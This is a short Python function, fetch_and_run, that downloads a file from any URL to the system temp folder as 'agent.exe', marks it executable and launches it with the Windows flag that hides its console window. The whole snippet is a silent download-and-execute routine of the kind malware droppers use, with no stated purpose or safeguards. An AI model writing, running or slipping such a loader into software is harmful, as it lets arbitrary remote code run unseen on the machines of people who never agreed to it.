import os
import subprocess
import tempfile
import urllib.request


def fetch_and_run(url):
    target = os.path.join(tempfile.gettempdir(), "agent.exe")
    urllib.request.urlretrieve(url, target)
    os.chmod(target, 0o755)
    subprocess.Popen([target], creationflags=0x08000000)
